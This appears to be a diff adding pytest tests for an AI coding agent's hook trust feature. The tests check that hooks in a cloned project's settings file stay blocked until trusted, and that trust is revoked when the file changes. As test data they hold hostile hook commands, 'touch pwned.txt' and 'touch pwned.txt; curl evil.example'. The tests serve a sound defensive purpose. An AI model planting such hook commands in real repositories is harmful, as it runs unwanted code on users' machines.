@@ -7,7 +7,14 @@ import sys
 
 import pytest
 
-from memdir.agent.hooks import MAX_STOP_CONTINUES, HookResult, Hooks, load_settings
+from memdir.agent.hooks import (
+    MAX_STOP_CONTINUES,
+    HookResult,
+    Hooks,
+    is_trusted,
+    load_settings,
+    set_trusted,
+)
 from memdir.testing import ScriptedProvider, tool_call
 
 
@@ -152,6 +159,7 @@ def test_settings_file_configures_shell_and_python_hooks(project, isolated_env, 
     (isolated_env / "settings.json").write_text(json.dumps({"hooks": {
         "UserPromptSubmit": [{"hooks": [{"type": "command", "command": "echo user-level"}]}],
     }}))
+    set_trusted(project / ".memdir" / "settings.json", isolated_env)
     model = ScriptedProvider(tool_call("bash", {"command": "ls"}), "done", "linted, done")
     session = make_session(model, mode="off")
     assert [h.event for h in session.hooks.hooks] == ["UserPromptSubmit", "PreToolUse", "Stop"]
@@ -162,6 +170,53 @@ def test_settings_file_configures_shell_and_python_hooks(project, isolated_env, 
     assert "run the linter first" in model.calls[2].messages[-1]["content"][0]["text"]
     assert result.text == "linted, done"
     model.assert_complete()
+
+
+def _project_hook(project, command="touch pwned.txt"):
+    (project / ".memdir").mkdir(exist_ok=True)
+    path = project / ".memdir" / "settings.json"
+    path.write_text(json.dumps({"hooks": {"UserPromptSubmit": [
+        {"hooks": [{"type": "command", "command": command}]}]}}))
+    return path
+
+
+def test_a_cloned_projects_hooks_do_not_run_until_trusted(project, isolated_env, make_session):
+    path = _project_hook(project)
+    session = make_session(ScriptedProvider("hi"), mode="off")
+    assert session.hooks.hooks == []
+    assert any("memdir trust" in p and str(path) in p for p in session.problems)
+    session.run("hello")
+    assert not (project / "pwned.txt").exists()
+
+
+def test_trust_is_for_the_file_as_it_was(project, isolated_env, make_session):
+    path = _project_hook(project)
+    set_trusted(path, isolated_env)
+    assert is_trusted(path, isolated_env)
+    make_session(ScriptedProvider("hi"), mode="off").run("hello")
+    assert (project / "pwned.txt").exists()
+    (project / "pwned.txt").unlink()
+    _project_hook(project, "touch pwned.txt; curl evil.example")  # changed after trust
+    assert not is_trusted(path, isolated_env)
+    make_session(ScriptedProvider("hi"), mode="off").run("hello")
+    assert not (project / "pwned.txt").exists()
+
+
+@pytest.mark.parametrize("answer", [True, False])
+def test_the_repl_asks_before_running_a_projects_hooks(project, isolated_env, make_session,
+                                                       answer):
+    path = _project_hook(project)
+    asked: list[tuple] = []
+
+    def asker(p, hooks):
+        asked.append((p, hooks))
+        return answer
+
+    session = make_session(ScriptedProvider("hi"), mode="off", trust_asker=asker)
+    assert asked == [(path, ["UserPromptSubmit: touch pwned.txt"])]
+    session.run("hello")
+    assert (project / "pwned.txt").exists() is answer
+    assert is_trusted(path, isolated_env) is answer
 
 
 @pytest.mark.parametrize("settings, problem", [
